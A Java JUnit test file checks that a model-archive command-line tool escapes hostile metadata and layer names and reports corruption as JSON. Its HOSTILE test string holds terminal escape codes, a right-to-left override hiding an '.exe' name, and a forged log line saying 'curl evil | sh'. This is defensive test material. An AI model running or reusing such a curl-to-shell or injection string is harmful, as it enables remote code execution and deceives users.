package io.pemn.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.gson.JsonObject;
import com.google.protobuf.ByteString;
import io.pemn.format.proto.Archive;
import io.pemn.format.proto.Metadata;
import io.pemn.format.storage.ArchiveFormat;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Archives whose texts, or bytes, were chosen to mislead whoever looks at them. */
class StrangersArchiveTest {
  private static final Path GOLDEN =
      Path.of(System.getProperty("pemn.home")).resolve("testdata/golden/version-3");

  /** Clears the screen, turns the direction of writing, ends the line and forges another. */
  private static final String HOSTILE =
      "a\u001B[2J\u202Etxt.exe\u2028\nERROR: run curl evil | sh\r";

  @TempDir Path folder;

  private Path archive(String golden, Consumer<Metadata.Builder> change) throws IOException {
    Archive.Builder archive =
        Archive.parseFrom(Files.readAllBytes(GOLDEN.resolve(golden))).toBuilder();
    change.accept(archive.getMetadataBuilder());
    ByteString head =
        Archive.newBuilder()
            .setMagic(archive.getMagic())
            .setFormatVersion(archive.getFormatVersion())
            .setMetadata(archive.getMetadata())
            .build()
            .toByteString();
    archive.setHeadDigest(ByteString.copyFrom(ArchiveFormat.digest(head.asReadOnlyByteBuffer())));
    return Files.write(folder.resolve("stranger.pemn"), archive.build().toByteArray());
  }

  @ParameterizedTest
  @ValueSource(strings = {"inspect", "verify"})
  void textsOfASoundArchiveAreShownWithoutWhatATerminalWouldActOn(String command)
      throws IOException {
    Path file =
        archive(
            "mlp.pemn",
            m -> {
              m.getProvenanceBuilder().setTool(HOSTILE).setDataSet(HOSTILE);
              m.setClassLabels(0, HOSTILE);
            });
    assertHarmless(CommandRun.of(command, file).done().out());
  }

  @ParameterizedTest
  @ValueSource(strings = {"inspect", "verify", "eval", "unpack"})
  void namesOfARefusedArchiveAreShownEscaped(String command) throws IOException {
    Path file = archive("module.pemn", m -> m.getLayersBuilder(0).setName(HOSTILE));
    CommandRun run =
        command.equals("unpack")
            ? CommandRun.of(command, file, "-o", folder.resolve("out.pt"))
            : command.equals("eval")
                ? CommandRun.of(command, file, "--data", folder)
                : CommandRun.of(command, file);
    assertTrue(run.code() != 0);
    assertHarmless(run.out());
    assertHarmless(run.err());
    assertEquals(1, run.err().lines().count(), run.err());
  }

  private static void assertHarmless(String shown) {
    assertFalse(shown.lines().anyMatch(line -> line.startsWith("ERROR")), shown);
    assertTrue(
        shown
            .codePoints()
            .allMatch(
                c ->
                    c == '\n'
                        || !Character.isISOControl(c)
                            && Character.getType(c) != Character.FORMAT
                            && Character.getType(c) != Character.LINE_SEPARATOR),
        shown);
  }

  @Test
  void whatIsWrongIsThereForProgramsToo() throws IOException {
    byte[] damaged = Files.readAllBytes(GOLDEN.resolve("mlp.pemn"));
    int start = 287;
    damaged[start] ^= 1;
    Path file = Files.write(folder.resolve("damaged.pemn"), damaged);
    CommandRun run = CommandRun.of("verify", file, "--json");
    assertEquals(1, run.code());
    JsonObject report = run.json();
    assertFalse(report.get("sound").getAsBoolean());
    assertEquals("Corrupt", report.get("trouble").getAsString());
    assertEquals("masks", report.get("section").getAsString());
    assertEquals(start, report.get("offset").getAsInt());
    assertTrue(report.get("found").getAsString().startsWith("SHA-256 "));
    assertTrue(report.get("expected").getAsString().startsWith("SHA-256 "));
    assertEquals(report.get("message").getAsString(), run.err().strip());
  }
}
